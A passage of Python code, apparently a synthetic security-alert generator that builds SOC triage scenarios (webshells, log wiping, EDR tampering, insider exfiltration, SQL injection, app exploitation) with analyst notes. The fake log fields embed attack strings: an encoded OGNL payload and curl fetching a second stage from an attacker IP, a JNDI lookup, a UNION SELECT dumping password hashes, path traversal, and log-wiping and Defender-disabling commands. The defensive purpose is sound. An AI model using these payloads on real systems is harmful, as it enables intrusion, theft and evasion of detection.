            ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "medium", c.team()))
    c.alert("zeek", "Internal port sweep from workstation", "medium",
            dict(zeek_conn(int_ip("10.20"), int_ip("10.10"), 445, 0, 0, 0.0, state="S0"), distinct_dests_5m=rng.randint(200, 1200), ports=[445, 3389, 5985]),
            off=5, ents={"hosts": [host]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "SharpHound -c All from %s under %s, followed by a 445/3389/5985 sweep of the server range. Not part of any sanctioned assessment. Isolated, account reset." % (host, u.sam),
        "AD graph collection plus network scanning from %s. Hostile; contained." % host,
    ])
    return out("SharpHound and network sweep from %s" % host, "high", ["T1087.002", "T1069.002", "T1046", "T1018"], notes,
               ["isolate_host", "reset_password", "collect_forensics"])


@scenario("rb-ransomware-discovery-tooling", "benign")
def disco_admin_inventory(c):
    host = pick(["JMP-SYSADM-01", "PAW-ADM04"])
    u = c.person()
    c.alert("sysmon", "AdFind enumeration of trusts, computers and users", "medium",
            sysmon1(host, u.win + "-adm", "C:\\Tools\\AdFind\\AdFind.exe", "AdFind.exe -f objectcategory=computer -csv name lastLogonTimestamp", CMD),
            ents={"hosts": [host], "users": [u.win + "-adm"]}, asset=("corporate", "medium", "corp-it"))
    notes = pick([
        "%s-adm running the quarterly stale-computer report from %s with the sanctioned AdFind in C:\\Tools; output is computers + lastLogonTimestamp only, no trusts or user dump." % (u.sam, host),
        "AD hygiene report by sysadmin %s from the admin jump host %s. Same query every quarter. Benign." % (u.name, host),
    ])
    return out("Stale-computer AdFind report by %s on %s" % (u.sam, host), "informational", ["T1087.002"], notes, [])


@scenario("rb-ransomware-discovery-tooling", "false_positive")
def disco_net_view(c):
    host = c.ws()
    u = c.person()
    share = "\\\\SRV-FS%02d\\%s" % (rng.randint(1, 6), pick(["Teams", "Projects", "Finance"]))
    c.alert("sysmon", "Net view / net group discovery commands", "low",
            sysmon1(host, u.win, "C:\\Windows\\System32\\net.exe", "net use Z: %s /persistent:yes" % share, CMD),
            ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "'net use Z: %s' from the logon script on %s; drive mapping, not discovery. The rule groups every net.exe verb together." % (share, host),
        "%s's logon script mapping %s. FP; 'net use' removed from the discovery rule." % (u.sam, share),
    ])
    return out("Drive mapping via net use on %s" % host, "informational", ["T1018"], notes, [])


@scenario("rb-windows-log-clearing", "true_positive")
def log_clear_security(c):
    host = c.winsrv()
    u = c.person()
    c.alert("windows-security", "Security event log cleared", "high",
            winsec(1102, host, SubjectUserName=u.sam, SubjectDomainName=NETBIOS, SubjectLogonId="0x%x" % rng.randint(10 ** 5, 10 ** 7)),
            ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", c.team()))
    c.alert("sysmon", "wevtutil clearing multiple logs", "high",
            sysmon1(host, u.win, "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl System", CMD), off=0.1,
            ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", c.team()))
    notes = pick([
        "Security and System logs cleared on %s by %s at %s, minutes after a RDP logon from an unusual workstation. Forwarded events in the SIEM show what was cleared: a new local admin and a service install. Isolated, account disabled." % (host, u.sam, c.hhmm()),
        "Log wiping on %s after intrusion activity; SIEM copies intact. Contained." % host,
    ])
    return out("Security log cleared on %s" % host, "high", ["T1070.001", "T1136.001"], notes,
               ["isolate_host", "disable_account", "collect_forensics"])


@scenario("rb-windows-log-clearing", "benign")
def log_clear_reimage(c):
    host = c.ws()
    c.alert("windows-security", "Security event log cleared", "medium",
            winsec(1102, host, SubjectUserName="SYSTEM"), ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "1102 on %s logged by SYSTEM during the OS refresh task sequence; SCCM shows the deployment running at that time and the device re-enrolled 20 minutes later." % host,
        "Log cleared as part of reimaging %s. Expected." % host,
    ])
    return out("Log clear during reimage of %s" % host, "informational", ["T1070.001"], notes, [])


@scenario("rb-windows-log-clearing", "false_positive")
def log_rollover(c):
    host = c.dc()
    c.alert("windows-security", "Event log cleared or rolled", "medium",
            {"EventID": 1105, "Channel": "Security", "Computer": host + "." + AD_DOMAIN, "BackupPath": "C:\\Windows\\System32\\Winevt\\Logs\\Archive-Security-%s.evtx" % c.day(),
             "TimeCreated": "__T__"}, ents={"hosts": [host]}, asset=("production", "critical", "identity-team"))
    notes = pick([
        "Event 1105 on %s is automatic backup on rollover (AutoBackupLogFiles is set on DCs); the archive file exists on disk. Not a clear. Removed 1105 from the rule." % host,
        "Security log rollover archive on %s. FP." % host,
    ])
    return out("Security log rollover archive on %s" % host, "informational", ["T1070.001"], notes, ["create_ticket"])


@scenario("rb-edr-tampering", "true_positive")
def edr_defender_disable(c):
    host = c.winsrv()
    u = c.person()
    c.alert("sysmon", "Defender real-time protection disabled via PowerShell", "high",
            sysmon1(host, u.win, PS, "powershell Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true; Add-MpPreference -ExclusionPath C:\\ProgramData",
                    CMD, integrity="High"), ents={"hosts": [host], "users": [u.win]}, asset=("production", "high", c.team()))
    notes = pick([
        "Defender real-time off plus an exclusion for C:\\ProgramData on %s, then a payload was dropped there. Tamper protection was not enabled on this server OU. Re-enabled, isolated, turned on tamper protection for all servers." % host,
        "AV disabled and exclusion added on %s by %s ahead of tooling drop. Hostile. Contained." % (host, u.sam),
    ])
    return out("Defender disabled with ProgramData exclusion on %s" % host, "high", ["T1562.001"], notes,
               ["isolate_host", "change_org_policy", "collect_forensics"])


@scenario("rb-edr-tampering", "true_positive")
def edr_sensor_offline(c):
    host = c.ws()
    c.alert("crowdstrike", "Sensor uninstall attempted / sensor offline unexpectedly", "high",
            cs(host, "SYSTEM", "SensorTampering", "Defense Evasion", "Impair Defenses", "C:\\Windows\\Temp\\%s.exe --kill CSFalconService" % alnum(6),
               "C:\\Windows\\Temp\\%s.exe" % alnum(6), "cmd.exe"), ents={"hosts": [host]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "EDR killer tool attempted to terminate the sensor service on %s, then the host went silent. Pulled it from the network at the switch, reimaged. Same tool hash seen in a recent ransomware report." % host,
        "Sensor tamper + offline on %s. Treated as compromised; network-isolated and rebuilt." % host,
    ])
    return out("EDR killer on %s" % host, "high", ["T1562.001", "T1489"], notes, ["isolate_host", "collect_forensics", "block_indicator"])


@scenario("rb-edr-tampering", "benign")
def edr_maintenance(c):
    host = c.winsrv()
    u = c.person()
    ch = chg()
    c.alert("crowdstrike", "Sensor uninstall attempted", "medium",
            cs(host, u.sam, "SensorUninstall", "Defense Evasion", "Impair Defenses", "CsUninstallTool.exe MAINTENANCE_TOKEN=**** /quiet",
               "C:\\Tools\\CsUninstallTool.exe", "cmd.exe", sev="Medium"), ents={"hosts": [host], "users": [u.win]}, asset=("production", "medium", "corp-it"))
    notes = pick([
        "Sensor reinstall on %s by %s with a maintenance token issued for %s (sensor stuck on an unsupported build). Host back online in the console with the new version 9 minutes later." % (host, u.sam, ch),
        "Uninstall used a valid per-host maintenance token requested by %s under %s. Reinstalled and reporting. Benign." % (u.name, ch),
    ])
    return out("Approved sensor reinstall on %s (%s)" % (host, ch), "informational", ["T1562.001"], notes, [])


@scenario("rb-edr-tampering", "false_positive")
def edr_defender_passive(c):
    host = c.ws()
    c.alert("windows-security", "Defender real-time protection disabled", "medium",
            {"EventID": 5001, "Channel": "Microsoft-Windows-Windows Defender/Operational", "Computer": host + "." + AD_DOMAIN, "TimeCreated": "__T__"},
            ents={"hosts": [host]}, asset=("corporate", "low", "corp-it"))
    notes = pick([
        "Defender on %s switched to passive mode when the EDR registered as primary AV; 5001 fires at that moment on every new build. FP." % host,
        "5001 on %s is Defender going passive after the EDR install; real-time protection is provided by the EDR. FP." % host,
    ])
    return out("Defender passive mode on %s" % host, "informational", ["T1562.001"], notes, [])


@scenario("rb-linux-log-tampering", "true_positive")
def linux_history_clear(c):
    host = c.lnx()
    user = pick(["ubuntu", "deploy", "root"])
    c.alert("auditd", "Shell history disabled / cleared", "high",
            auditd(host, "EXECVE", "/usr/bin/bash", "bash", ["bash", "-c", "unset HISTFILE; export HISTSIZE=0; history -c; rm -f ~/.bash_history"],
                   auid=str(rng.randint(1000, 1100)), uid="0" if user == "root" else "1000", key="hist_tamper"),
            ents={"hosts": [host], "users": [user]}, asset=("production", "high", c.team()))
    c.alert("auditd", "Auth log truncated", "high",
            auditd(host, "EXECVE", "/usr/bin/truncate", "truncate", ["truncate", "-s", "0", "/var/log/auth.log", "/var/log/wtmp"],
                   auid=str(rng.randint(1000, 1100)), uid="0", key="log_tamper"), off=0.4,
            ents={"hosts": [host]}, asset=("production", "high", c.team()))
    notes = pick([
        "History disabled and auth.log/wtmp truncated on %s right after a session from an unknown key. Central syslog preserved the entries, which show a miner install. Isolated and rebuilt." % host,
        "Anti-forensics on %s (history + log truncation). Logs recovered from the collector. Contained." % host,
    ])
    return out("History and auth log wiped on %s" % host, "high", ["T1070.003", "T1070.002"], notes,
               ["isolate_host", "collect_forensics"])


@scenario("rb-linux-log-tampering", "benign")
def linux_logrotate(c):
    host = c.lnx()
    c.alert("auditd", "Log file truncated", "low",
            auditd(host, "PATH", "/usr/sbin/logrotate", "logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"], auid="4294967295", uid="0", key="log_tamper", tty="(none)"),
            ents={"hosts": [host]}, asset=("production", "low", "sre"))
    notes = pick([
        "logrotate copytruncate on %s at the cron.daily time; the rotated .1.gz files are present and already shipped to the collector." % host,
        "Daily logrotate on %s (systemd logrotate.timer fired at %s). Expected truncation." % (host, c.hhmm()),
    ])
    return out("logrotate truncation on %s" % host, "informational", ["T1070.002"], notes, [])


@scenario("rb-linux-log-tampering", "false_positive")
def linux_hist_container(c):
    host = c.lnx()
    img = pick(["bitnami/redis", "library/nginx", "grafana/loki", "confluentinc/cp-kafka"])
    c.alert("auditd", "Shell history disabled / cleared", "low",
            dict(auditd(host, "EXECVE", "/bin/sh", "sh", ["sh", "-c", "export HISTFILE=/dev/null && exec /app/entrypoint.sh"], auid="4294967295", uid="1000", key="hist_tamper", tty="(none)"),
                 container_image=img),
            ents={"hosts": [host]}, asset=("production", "low", "sre"))
    notes = pick([
        "HISTFILE=/dev/null comes from the upstream %s image's entrypoint on %s; no TTY, auid unset, runs at every container start. Not anti-forensics." % (img, host),
        "Entrypoint default in %s, observed on every restart on %s. FP; excluded container entrypoints without a tty." % (img, host),
    ])
    return out("%s entrypoint HISTFILE setting on %s" % (img.split("/")[1], host), "informational", ["T1070.003"], notes, [])


# ===================================== insider / SaaS ================================

@scenario("rb-departing-employee-exfil", "true_positive")
def depart_usb(c):
    u = c.person()
    host = c.ws()
    n = rng.randint(400, 9000)
    c.alert("crowdstrike", "Bulk copy to removable media", "high",
            {"event_simpleName": "RemovableMediaFileWritten", "ComputerName": host, "UserName": u.sam, "DeviceVendor": pick(["SanDisk", "Kingston", "Samsung"]),
             "DeviceSerialNumber": upper_alnum(16), "FilesWritten": n, "TotalBytes": n * rng.randint(200000, 2000000),
             "TopExtensions": [".pdf", ".xlsx", ".dwg", ".pptx"], "timestamp": "__TMS__"},
            ents={"hosts": [host], "users": [u.win]}, asset=("corporate", "medium", c.team()))
    c.alert("google-workspace", "Forward of internal documents to personal address", "medium",
            gws("gmail", "email_forwarded", u.email, ext_ip(), {"destination": "%s.%s@%s" % (u.first.lower(), u.last.lower(), pick(["freemail.example", "mailbox.example.net"])), "attachments": rng.randint(5, 40)}),
            off=rng.randint(60, 1400), ents={"users": [u.email]}, asset=("corporate", "medium", c.team()))
    notes = pick([
        "%s resigned on %s (HR feed) and in the notice period copied %d files (pricing, CAD drawings) to an unapproved USB drive and forwarded attachments to a personal mailbox. HR and legal engaged, access cut on the last day moved earlier, device collected." % (u.name, c.day(), n),
        "Departing-employee data theft: USB bulk copy from %s plus personal-mail forwards by %s. Evidence preserved, handed to legal." % (host, u.sam),
    ])
    return out("Departing employee %s copied %d files to USB" % (u.sam, n), "high", ["T1052.001", "T1114.002", "T1567.002"], notes,
               ["collect_forensics", "notify_owner", "disable_account", "create_ticket"])


@scenario("rb-departing-employee-exfil", "true_positive")
def depart_git_clone(c):
    u = c.person()
    n = rng.randint(30, 150)
    c.alert("github-audit", "Departing user cloned many repositories", "high",
            gh("git.clone", u.gh, ext_ip(), repo=c.repo(), extra={"distinct_repos_24h": n, "hr_status": "notice_period"}),
            ents={"users": [u.gh]}, asset=("production", "high", "devex"))
    notes = pick([
        "%s (notice period, joining a competitor) cloned %d repos including ones outside their team in one evening from home. Access revoked early, legal sent a preservation/return letter." % (u.gh, n),
        "Bulk clone of %d repos by departing engineer %s. Policy breach; HR/legal handling, access removed." % (n, u.gh),
    ])
    return out("Departing engineer %s cloned %d repos" % (u.gh, n), "medium", ["T1213.003", "T1530"], notes,
               ["disable_account", "revoke_token", "notify_owner"])


@scenario("rb-departing-employee-exfil", "benign")
def depart_handover(c):
    u = c.person()
    n = rng.randint(200, 900)
    host = c.ws()
    c.alert("o365", "Bulk download by user on notice", "medium",
            o365("FileSyncDownloadedFull", u.upn, int_ip(), workload="OneDrive", extra={"FileCount": n, "DeviceName": host,
                                                                                         "SiteUrl": "https://examplecorp-my.sharepoint.com/personal/%s" % u.sam}),
            ents={"users": [u.upn], "hosts": [host]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%s synced %d files from their own OneDrive to %s (managed, encrypted laptop) to put the handover pack together; manager confirmed. No USB writes, no personal uploads in the same window." % (u.upn, n, host),
        "Handover prep by departing user %s onto corporate device %s. Manager-approved; nothing leaves the tenant." % (u.sam, host),
    ])
    return out("Handover sync by departing user %s to %s" % (u.sam, host), "informational", ["T1530"], notes, [])


@scenario("rb-departing-employee-exfil", "false_positive")
def depart_wrong_hr(c):
    u = c.person()
    mb = rng.randint(5, 50)
    c.alert("proxy", "Departing employee uploading to personal storage", "medium",
            proxy(u.email, int_ip("10.20"), "https://photos.personal-cloud.example/upload", method="POST", category="Online Storage", bytes_out=mb * 1024 * 1024),
            ents={"users": [u.email]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "HR feed marked %s as leaving; it was an internal transfer to another department coded as a termination. The %d MB upload was phone photos during lunch. HR fixed the record." % (u.email, mb),
        "%s is not departing (HR coding error on the transfer). Upload content was personal photos, not company data. FP." % u.name,
    ])
    return out("Departure flag error for %s" % u.sam, "informational", ["T1567.002"], notes, ["create_ticket"])


@scenario("rb-saas-mass-download", "true_positive")
def saas_sharepoint_bulk(c):
    u = c.person()
    ip = ext_ip()
    n = rng.randint(800, 12000)
    site = pick(["Finance", "M-and-A", "Legal", "Engineering-Designs", "Board"])
    c.alert("o365", "Mass download from SharePoint site", "high",
            o365("FileDownloaded", u.upn, ip, workload="SharePoint",
                 extra={"SiteUrl": "https://examplecorp.sharepoint.com/sites/%s" % site, "FileCount_1h": n, "UserAgent": "Microsoft SkyDriveSync / python-requests"}),
            ents={"users": [u.upn], "ips": [ip]}, asset=("corporate", "high", c.team()))
    notes = pick([
        "%d files pulled from /sites/%s in an hour by %s's session from %s; the session was hijacked via token replay (see AiTM case). Revoked sessions, and Purview shows the docs were downloaded not shared. Legal notified for %s content." % (n, site, u.upn, ip, site),
        "Bulk SharePoint download from %s with a scripted UA using %s's token. Compromise confirmed; contained and assessing data exposure." % (site, u.sam),
    ])
    return out("Mass download of %s site by %s" % (site, u.sam), "high", ["T1213.002", "T1530", "T1550.004"], notes,
               ["revoke_sessions", "reset_password", "block_indicator", "notify_owner"])


@scenario("rb-saas-mass-download", "true_positive")
def saas_confluence_scrape(c):
    u = c.person()
    ip = ext_ip()
    c.alert("atlassian-audit", "Confluence API scraping with personal API token", "high",
            {"source_system": "atlassian-audit", "action": "content.viewed", "actor": u.email, "ip": ip, "api_token": "ATATT****",
             "pages_viewed_1h": rng.randint(3000, 20000), "user_agent": "python-requests/2.31.0", "spaces": ["ENG", "SEC", "OPS"], "date": "__T__"},
            ents={"users": [u.email], "ips": [ip], "tokens": ["ATATT****"]}, asset=("corporate", "high", "devex"))
    notes = pick([
        "Confluence API token for %s used from %s to walk ENG/SEC/OPS spaces via script; the token was in a leaked .env. The SEC space includes network diagrams. Token revoked, user informed, hunting for use of the documented internal hostnames." % (u.email, ip),
        "Scripted scraping of Confluence with %s's stolen API token from %s. Token revoked; the list of ENG/SEC/OPS pages read went to the space owners for review." % (u.email, ip),
    ])
    return out("Confluence scraping with %s's API token" % u.sam, "high", ["T1213.001", "T1552.001"], notes,
               ["revoke_token", "block_indicator", "notify_owner"])


@scenario("rb-saas-mass-download", "benign")
def saas_ediscovery(c):
    u = c.person()
    t = ticket()
    c.alert("o365", "Mass download from SharePoint site", "medium",
            o365("FileDownloaded", u.upn, int_ip(), workload="SharePoint", extra={"FileCount_1h": rng.randint(2000, 8000), "SiteUrl": "https://examplecorp.sharepoint.com/sites/Legal"}),
            ents={"users": [u.upn]}, asset=("corporate", "medium", "legal-ops"))
    notes = pick([
        "%s (legal ops, eDiscovery manager role) exporting the hold set for matter %s from /sites/Legal. Role-appropriate and logged in Purview." % (u.upn, t),
        "eDiscovery export by %s for %s; download volume matches the export job size. Benign." % (u.sam, t),
    ])
    return out("eDiscovery export by %s (%s)" % (u.sam, t), "informational", ["T1213.002"], notes, [])


@scenario("rb-saas-mass-download", "false_positive")
def saas_sync_client(c):
    u = c.person()
    n = rng.randint(1000, 5000)
    c.alert("google-workspace", "Mass download from Drive", "medium",
            gws("drive", "download", u.email, int_ip(), {"doc_count_1h": n, "originating_app_id": "drivefs"}),
            ents={"users": [u.email]}, asset=("corporate", "low", c.team()))
    notes = pick([
        "%d 'downloads' for %s are Drive for desktop doing its first sync on the user's new laptop (originating_app_id drivefs). FP; sync client excluded." % (n, u.email),
        "Desktop sync client initial pull for %s, not a browser or API bulk export. Benign." % u.sam,
    ])
    return out("Drive desktop first sync for %s" % u.sam, "informational", ["T1530"], notes, [])


# ===================================== web-facing ====================================

@scenario("rb-webshell", "true_positive")
def webshell_aspx(c):
    host = pick(["EXCH01", "EXCH02", "SRV-IIS%02d" % rng.randint(1, 9)])
    shell = pick(["C:\\inetpub\\wwwroot\\aspnet_client\\%s.aspx" % alnum(6), "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\%s.aspx" % alnum(5)])
    c.alert("sysmon", "IIS worker spawned command shell", "critical",
            sysmon1(host, "IIS APPPOOL\\DefaultAppPool", CMD, 'cmd.exe /c "cd /d C:\\inetpub\\wwwroot&whoami&ipconfig /all"', "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                    pcmd="c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\""),
            ents={"hosts": [host], "files": [shell]}, asset=("production", "critical", "web-team"))
    c.alert("sysmon", "ASPX file created in web root", "high",
            sysmon11(host, "IIS APPPOOL\\DefaultAppPool", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", shell), off=-30,
            ents={"hosts": [host], "files": [shell]}, asset=("production", "critical", "web-team"))
    wip = ext_ip()
    c.alert("waf", "POST to static aspnet_client path returning 200", "high",
            waf(wip, pick(["NL", "US", "HK"]), "POST", "/" + shell.split("\\")[-1], "", "ALLOW", "Custom-Rules", "aspx-write-monitor", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                "mail.example.com" if host.startswith("EXCH") else "portal.example.com", status=200), off=-1,
            ents={"ips": [wip], "hosts": [host]}, asset=("production", "critical", "web-team"))
    notes = pick([
        "w3wp spawning cmd with whoami/ipconfig, and %s was written by w3wp 30 minutes earlier. Webshell confirmed (one-line eval of a POST parameter). Removed, server taken out of the pool, patched, and IIS logs show 3 source IPs using it, all blocked." % shell.split("\\")[-1],
        "ASPX webshell on %s at %s. Contained; server rebuilt from clean image." % (host, shell),
    ])
    return out("ASPX webshell on %s" % host, "critical", ["T1505.003", "T1059.003", "T1190"], notes,
               ["isolate_host", "delete_resource", "block_indicator", "collect_forensics"])


@scenario("rb-webshell", "true_positive")
def webshell_jsp(c):
    host = c.lnx(pick(["tomcat", "app", "web"]), "prod")
    ip = ext_ip()
    c.alert("auditd", "Java process spawned shell", "critical",
            auditd(host, "EXECVE", "/bin/sh", "sh", ["/bin/sh", "-c", "id;uname -a;cat /etc/passwd"], auid="4294967295", uid="998", key="web_exec", cwd="/opt/tomcat", tty="(none)"),
            ents={"hosts": [host]}, asset=("production", "high", "web-team"))
    c.alert("waf", "Request to newly created JSP with command parameter", "high",
            waf(ip, pick(["NL", "SG", "US"]), "POST", "/uploads/%s.jsp" % alnum(5), "cmd=id", "ALLOW", "Custom-Rules", "jsp-upload-exec",
                "Mozilla/5.0", "app.example.com"), off=-0.1, ents={"ips": [ip], "hosts": [host]}, asset=("production", "high", "web-team"))
    notes = pick([
        "JSP dropped into /uploads via the unrestricted file upload, then POST cmd=id from %s executing as tomcat on %s. Upload dir now non-executable, shell removed, host rebuilt, IP blocked." % (ip, host),
        "JSP webshell through upload flaw on %s. Contained." % host,
    ])
    return out("JSP webshell via upload on %s" % host, "critical", ["T1505.003", "T1190", "T1059.004"], notes,
               ["isolate_host", "block_indicator", "delete_resource"])


@scenario("rb-webshell", "benign")
def webshell_cms_plugin(c):
    host = c.lnx("web", "prod")
    plugin = pick(["wordfence", "yoast-seo", "wp-super-cache"])
    f = "/var/www/html/wp-content/plugins/%s/lib/%s.php" % (plugin, alnum(6))
    c.alert("auditd", "PHP file created in web root", "medium",
            auditd(host, "PATH", "/usr/bin/php8.2", "php-fpm8.2", ["php-fpm: pool www"], auid="4294967295", uid="33", key="webroot_write", tty="(none)"),
            ents={"hosts": [host], "files": [f]}, asset=("production", "low", "marketing-ops"))
    notes = pick([
        "WordPress auto-update of %s on %s; every written file matches the release checksums from the plugin repository." % (plugin, host),
        "%s plugin update wrote PHP under wp-content/plugins on %s. Checksums verified, no other writes. Benign." % (plugin, host),
    ])
    return out("%s auto-update on %s" % (plugin, host), "informational", ["T1505.003"], notes, [])


@scenario("rb-webshell", "false_positive")
def webshell_healthcheck(c):
    host = "SRV-IIS%02d" % rng.randint(1, 9)
    c.alert("sysmon", "IIS worker spawned command shell", "high",
            sysmon1(host, "IIS APPPOOL\\ReportsPool", CMD, "cmd.exe /c \"C:\\Apps\\Reports\\bin\\wkhtmltopdf.exe\" --quiet report.html report.pdf",
                    "C:\\Windows\\System32\\inetsrv\\w3wp.exe"), ents={"hosts": [host]}, asset=("production", "medium", "finance-systems"))
    notes = pick([
        "ReportsPool on %s shells out to wkhtmltopdf for PDF export by design; identical command line thousands of times a day and no new files in the web root." % host,
        "w3wp -> cmd -> wkhtmltopdf on %s is the Reports app's renderer. Allowlisted that exact parent/child/command." % host,
    ])
    return out("Reports PDF rendering via cmd on %s" % host, "informational", ["T1505.003"], notes, [])


@scenario("rb-public-app-exploitation", "true_positive")
def exploit_rce_success(c):
    host = c.lnx(pick(["vpn", "gw", "app"]), "prod")
    ip = ext_ip()
    product = pick([("Confluence", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22curl%20http%3A%2F%2F" + ip.replace(".", "%2E") + "%2Fs%22%29%7D/"),
                    ("GitLab", "/uploads/user"),
                    ("Jenkins", "/cli?remoting=false"),
                    ("MOVEit-like MFT", "/moveitisapi/moveitisapi.dll?action=m2")])
    c.alert("suricata", "Exploit attempt against %s" % product[0], "high",
            suricata(ip, rng.randint(40000, 60000), int_ip("10.60"), 443, "ET EXPLOIT %s remote code execution attempt" % product[0], "Attempted Administrator Privilege Gain", sev=1, app="http",
                     http={"hostname": "%s.example.com" % slug(product[0]).split("-")[0], "url": product[1], "http_method": pick(["GET", "POST"]), "status": 200, "http_user_agent": "Mozilla/5.0 zgrab/0.x"}),
            ents={"hosts": [host], "ips": [ip]}, asset=("production", "critical", c.team()))
    c.alert("auditd", "Application user spawned reverse shell", "critical",
            auditd(host, "EXECVE", "/usr/bin/curl", "curl", ["curl", "-s", "http://%s/s" % ip, "-o", "/tmp/s"], auid="4294967295", uid=str(rng.randint(900, 999)), key="app_exec", tty="(none)"),
            off=0.2, ents={"hosts": [host], "ips": [ip]}, asset=("production", "critical", c.team()))
    notes = pick([
        "%s exploit from %s returned 200 and the app user immediately curled a second stage from the same IP: successful RCE on %s. Patch was published four days ago and not yet applied. Host isolated, patched replacement deployed, hunting for persistence." % (product[0], ip, host),
        "Successful exploitation of %s on %s (status 200 + child curl). Contained and emergency-patched." % (product[0], host),
    ])
    return out("%s RCE exploited on %s" % (product[0], host), "critical", ["T1190", "T1105", "T1059.004"], notes,
               ["isolate_host", "block_indicator", "collect_forensics", "create_ticket"])


@scenario("rb-public-app-exploitation", "benign")
def exploit_blocked_noise(c):
    ip = ext_ip()
    c.alert("waf", "Log4Shell-style JNDI lookup in header", "medium",
            waf(ip, pick(["CN", "RU", "US", "NL"]), "GET", "/", "", "BLOCK", "AWSManagedRulesKnownBadInputsRuleSet", "Log4JRCE_HEADER", "${jndi:ldap://%s/a}" % ip, "www.example.com",
                matched=("JNDI", "HEADER", "${jndi:ldap")), ents={"ips": [ip]}, asset=("production", "medium", "web-team"))
    notes = pick([
        "Internet-wide JNDI spray, blocked at the WAF, and the site isn't Java anyway. No follow-up requests from %s. Nothing to do." % ip,
        "Blocked opportunistic Log4Shell probe from %s. Benign noise." % ip,
    ])
    return out("Blocked JNDI probe from %s" % ip, "low", ["T1190"], notes, [])


@scenario("rb-public-app-exploitation", "true_positive")
def exploit_path_traversal(c):
    ip = ext_ip()
    host = c.lnx("nginx", "prod")
    c.alert("waf", "Path traversal returned 200 with sensitive content", "high",
            waf(ip, "SG", "GET", "/static/..%2f..%2f..%2fetc/passwd", "", "ALLOW", "Custom-Rules", "traversal-monitor", "curl/8.4.0", "files.example.com", status=200,
                matched=("PATH_TRAVERSAL", "URI", "..%2f")), ents={"ips": [ip], "hosts": [host]}, asset=("production", "high", "web-team"))
    notes = pick([
        "Traversal through the nginx alias misconfig on %s returned /etc/passwd (200, 2.1KB) to %s; follow-up requests fetched the app's .env with DB creds. Fixed the alias, rotated DB creds, blocked IP." % (host, ip),
        "Successful path traversal on files.example.com (%s) from %s led to config disclosure. Secrets rotated, alias fixed, IP blocked." % (host, ip),
    ])
    return out("Path traversal file disclosure on %s" % host, "high", ["T1190", "T1552.001"], notes,
               ["block_indicator", "rotate_secret", "create_ticket"])


@scenario("rb-public-app-exploitation", "false_positive")
def exploit_sig_fp(c):
    ip = ext_ip()
    q = pick(["how+to+use+cmd+exe+in+powershell", "bash+-c+example+quoting", "wget+vs+curl+download"])
    c.alert("suricata", "Exploit attempt against web application", "medium",
            suricata(ip, rng.randint(40000, 60000), int_ip("10.60"), 443, "ET WEB_SERVER Possible CVE exploitation attempt (cmd in parameter)", "Web Application Attack", app="http",
                     http={"hostname": "docs.example.com", "url": "/search?q=" + q, "http_method": "GET", "status": 200}),
            ents={"ips": [ip]}, asset=("production", "low", "web-team"))
    notes = pick([
        "%s searched docs.example.com for '%s'. Plain words in the q parameter, no metacharacters or encoded payload, one request. Signature is too loose for a docs search box." % (ip, q.replace("+", " ")),
        "Search text '%s' from %s tripped the cmd-in-parameter signature. User traffic, FP." % (q.replace("+", " "), ip),
    ])
    return out("Docs search '%s' matched exploit signature" % q.replace("+", " ")[:30], "informational", ["T1190"], notes, [])


@scenario("rb-sql-injection", "true_positive")
def sqli_union_dump(c):
    ip = ext_ip()
    host = c.lnx("api", "prod")
    c.alert("waf", "SQL injection (UNION SELECT) passed in COUNT mode", "high",
            waf(ip, pick(["BR", "VN", "US"]), "GET", "/api/v1/products", "id=1%20UNION%20SELECT%20email,password_hash,3%20FROM%20users--", "COUNT",
                "AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", "sqlmap/1.8#stable (https://sqlmap.org)", "shop.example.com", status=200,
                matched=("SQL_INJECTION", "QUERY_STRING", "UNION SELECT")), ents={"ips": [ip], "hosts": [host]}, asset=("production", "critical", "web-team"))
    c.alert("app-logs", "Database error rate spike on API", "medium",
            {"source_system": "app-logs", "service": "products-api", "host": host, "error": "psycopg2.errors.SyntaxError", "count_5m": rng.randint(300, 3000), "client_ip": ip, "date": "__T__"},
            off=-5, ents={"hosts": [host], "ips": [ip]}, asset=("production", "critical", "web-team"))
    notes = pick([
        "sqlmap from %s against /api/v1/products?id; the rule group was in COUNT mode after a tuning change, so the UNION SELECT reached %s and returned 200 with user emails and hashes. Switched WAF to BLOCK, parametrised the query, forced password reset for affected users, privacy team engaged." % (ip, host),
        "Successful SQLi data extraction from products-api on %s by %s (sqlmap UA). Rule group back to BLOCK, query parametrised, breach process started." % (host, ip),
    ])
    return out("SQL injection from %s dumped users table via products API" % ip, "critical", ["T1190", "T1005"], notes,
               ["block_indicator", "change_org_policy", "create_ticket", "notify_owner"])


@scenario("rb-sql-injection", "benign")
def sqli_blocked_scan(c):
    ip = ext_ip()
    c.alert("waf", "SQL injection attempt blocked", "low",
            waf(ip, "US", "GET", "/login", "user=admin'%20OR%20'1'='1", "BLOCK", "AWSManagedRulesSQLiRuleSet", "SQLi_QUERYARGUMENTS", "Mozilla/5.0", "www.example.com", status=403),
            ents={"ips": [ip]}, asset=("production", "low", "web-team"))
    notes = pick([
        "Generic admin' OR '1'='1 against /login from %s, 403 from the WAF, and nothing from that IP ever got a 200 on an app path. The login handler uses prepared statements anyway." % ip,
        "%s sent a handful of textbook SQLi probes, all blocked. No follow-on. Noise." % ip,
    ])
    return out("Blocked SQLi probe from %s" % ip, "low", ["T1190"], notes, [])


@scenario("rb-sql-injection", "benign")
def sqli_bugbounty(c):
    ip = ext_ip()
    handle = "researcher-" + alnum(5)
    c.alert("waf", "SQL injection time-based payload", "medium",
